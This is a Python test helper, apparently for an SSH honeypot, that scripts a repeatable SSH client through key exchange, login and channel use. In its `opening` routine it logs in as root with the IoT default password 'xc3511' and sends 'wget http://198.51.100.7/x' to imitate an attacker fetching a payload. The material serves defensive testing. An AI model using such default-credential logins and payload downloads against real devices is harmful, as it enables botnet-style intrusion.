"""The client's side of SSH against a room at a table: what it sends is the same each time, and can be kept.

Its packets are made by the room's own `packets` and `primitives`; real clients judge those in tests/end_to_end.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterator

from cryptography.hazmat.primitives.asymmetric import x25519

from eudaemon.protocols.ssh import fields
from eudaemon.protocols.ssh.fields import Fields, integer, message, names, number, string
from eudaemon.protocols.ssh.keys import raw_public
from eudaemon.protocols.ssh.packets import Opener, Sealer
from eudaemon.protocols.ssh.primitives import ALONE, make_suite
from eudaemon.testing.script import Table

IDENTIFICATION = b"SSH-2.0-Go"
WINDOW = 2**21
_OWN = b"\x11" * 32


class Client:
    """One client. `said` is all that it sent, in the pieces in which it was said."""

    def __init__(self, table: Table, *, kex: str = "", cipher: str = "aes128-ctr", mac: str = "hmac-sha1",
                 strict: bool = False, compression: str = "none", window: int = WINDOW) -> None:  # fmt: skip
        self.table = table
        self.said: list[bytes] = []
        self.heard: list[bytes] = []  # messages of the room that nobody has taken yet
        self.sealer = Sealer(bytes(256), clear_padding=True)
        self.opener = Opener()
        self.strict = strict
        self.window = window
        self._kex = (kex or "curve25519-sha256@libssh.org", *(("kex-strict-c-v00@openssh.com",) if strict else ()))
        self._cipher, self._mac, self._compression = cipher, mac, compression
        self._read = 0
        self._server = b""
        self._theirs = self._ours = b""
        self._secret = self._hash = self._session = b""

    # --- bytes and messages ------------------------------------------------------------------------

    def say(self, data: bytes) -> None:
        self.said.append(data)
        self.table.say(data)
        self._listen()

    def send(self, *payloads: bytes) -> None:
        self.say(b"".join(map(self.sealer.seal, payloads)))

    def _listen(self) -> None:
        if not self._server:
            end = self.table.sent.find(b"\r\n")
            if end < 0:
                return
            self._server, self._read = self.table.sent[:end], end + 2
        self.opener.feed(self.table.sent[self._read :])
        self._read = len(self.table.sent)
        self._open()

    def forget(self) -> None:
        """Forget what the room has said: who sends megabytes is told much."""
        self.heard.clear()
        self.table.sent, self._read = b"", 0

    def _open(self) -> None:
        while (payload := self.opener.next()) is not None:
            self.heard.append(payload)
            if payload[0] == fields.NEWKEYS:
                self._change_in()

    def take(self, kind: int) -> Fields:
        """Return the oldest message that is not taken; it must be of that kind."""
        payload = self.heard.pop(0)
        assert payload[0] == kind, payload
        return Fields(payload, 1)

    # --- steps -------------------------------------------------------------------------------------

    def identify(self) -> None:
        self._listen()
        self.say(IDENTIFICATION + b"\r\n")

    def exchange(self) -> None:
        self.offer()
        self.agree()
        self.change()

    def offer(self, host_keys: tuple[str, ...] = (), *, follows: bool = False) -> None:
        from eudaemon.protocols.ssh.products import product_of

        known = host_keys or product_of(self.table.room.visit.host).host_keys[0]
        twice = [names([name]) for name in (self._cipher, self._mac, self._compression) for _ in range(2)]
        self._ours = message(
            fields.KEXINIT, b"\x22" * 16, names(self._kex), names(known[:1]), *twice, string(b""), string(b""),
            bytes((follows,)), number(0),
        )  # fmt: skip
        self.send(self._ours)
        self._theirs = next(payload for payload in self.heard if payload[0] == fields.KEXINIT)
        self.heard.remove(self._theirs)

    def agree(self) -> None:
        own = x25519.X25519PrivateKey.from_private_bytes(_OWN)
        public = raw_public(own)
        self._exchange = (own, public)
        self.send(message(30, string(public)))

    def _change_in(self) -> None:
        """The reply has come before it, among what was heard."""
        reply = next(Fields(payload, 1) for payload in self.heard if payload[0] == 31)
        own, public = self._exchange
        key, theirs = reply.string(), reply.string()
        shared = own.exchange(x25519.X25519PublicKey.from_public_bytes(theirs))
        self._secret = integer(int.from_bytes(shared, "big"))
        said = (IDENTIFICATION, self._server, self._ours, self._theirs, key, public, theirs)
        self._hash = hashlib.sha256(b"".join(map(string, said)) + self._secret).digest()
        self._session = self._session or self._hash
        self.heard = [payload for payload in self.heard if payload[0] not in (31, fields.NEWKEYS)]
        suite = make_suite(self._cipher, self._mac_used, self._derive, b"BDF", sending=False)
        self.opener.change(suite, anew=self.strict)

    def change(self) -> None:
        self.send(message(fields.NEWKEYS))
        suite = make_suite(self._cipher, self._mac_used, self._derive, b"ACE", sending=True)
        self.sealer.change(suite, anew=self.strict)
        self.sealer.clear_padding = True

    @property
    def _mac_used(self) -> str:
        return "" if self._cipher in ALONE else self._mac

    def _derive(self, letter: bytes, count: int) -> bytes:
        start = self._secret + self._hash
        found = hashlib.sha256(start + letter + self._session).digest()
        while len(found) < count:
            found += hashlib.sha256(start + found).digest()
        return found[:count]

    def ask_service(self) -> None:
        self.send(message(fields.SERVICE_REQUEST, string(b"ssh-userauth")))
        assert self.take(fields.SERVICE_ACCEPT).string() == b"ssh-userauth"

    def ask(self, user: bytes, method: bytes, *more: bytes) -> None:
        self.send(message(fields.USERAUTH_REQUEST, string(user), string(b"ssh-connection"), string(method), *more))

    def log_in(self, user: bytes = b"root", password: bytes = b"xc3511") -> None:
        self.ask(user, b"password", b"\0", string(password))
        self.take(fields.USERAUTH_SUCCESS)

    def open_session(self, number_: int = 0) -> int:
        """Open a session channel; return the room's number for it."""
        self.send(message(
            fields.CHANNEL_OPEN, string(b"session"), number(number_), number(self.window), number(32_768)
        ))  # fmt: skip
        read = self.take(fields.CHANNEL_OPEN_CONFIRMATION)
        assert read.number() == number_
        return read.number()

    def request(self, channel: int, kind: bytes, *more: bytes) -> None:
        self.send(message(fields.CHANNEL_REQUEST, number(channel), string(kind), b"\1", *more))
        self.take(fields.CHANNEL_SUCCESS)

    def terminal(self, channel: int) -> None:
        self.request(channel, b"pty-req", string(b"xterm"), number(80), number(24), number(0), number(0), string(b"\0"))

    def data(self, channel: int, data: bytes) -> None:
        self.send(message(fields.CHANNEL_DATA, number(channel), string(data)))

    def end(self, channel: int) -> None:
        self.send(message(fields.CHANNEL_EOF, number(channel)))

    def output(self, number_: int = 0) -> bytes:
        """Take what a channel has put out; other messages stay."""
        found, rest = b"", []
        for payload in self.heard:
            read = Fields(payload, 1)
            if payload[0] == fields.CHANNEL_DATA and read.number() == number_:
                found += read.string()
            else:
                rest.append(payload)
        self.heard = rest
        return found

    def status(self) -> int:
        """Take the messages with which a command ends; return its exit status."""
        read = self.take(fields.CHANNEL_REQUEST)
        read.number()
        assert read.string() == b"exit-status"
        read.flag()
        status = read.number()
        self.take(fields.CHANNEL_EOF)
        self.take(fields.CHANNEL_CLOSE)
        return status

    def run(self, command: bytes, given: bytes = b"") -> tuple[bytes, int]:
        """Run a command in a channel of its own; return its output and exit status."""
        channel = self.open_session()
        self.request(channel, b"exec", string(command))
        if given:
            self.data(channel, given)
        self.end(channel)
        shown = self.output()
        self.heard = [each for each in self.heard if each[0] != fields.CHANNEL_WINDOW_ADJUST]
        status = self.status()
        self.send(message(fields.CHANNEL_CLOSE, number(channel)))
        return shown, status


def connected(table: Table, **more: object) -> Client:
    """Return a client that has identified itself and exchanged keys."""
    client = Client(table, **more)  # type: ignore[arg-type]
    client.identify()
    client.exchange()
    return client


def logged_in(table: Table, **more: object) -> Client:
    """Return a client that is let in as root."""
    client = connected(table, **more)
    client.ask_service()
    client.log_in()
    return client


def opening(table: Table) -> Iterator[bytes]:
    """Yield what leads the room through its stages, up to a download that a shell waits for."""
    client = Client(table)
    client.identify()
    client.exchange()
    client.ask_service()
    client.ask(b"root", b"none")
    client.heard.clear()
    client.log_in()
    channel = client.open_session()
    client.terminal(channel)
    client.request(channel, b"shell")
    client.data(channel, b"echo a > /tmp/b\r")
    client.data(channel, b"wget http://198.51.100.7/x\r")
    yield from client.said
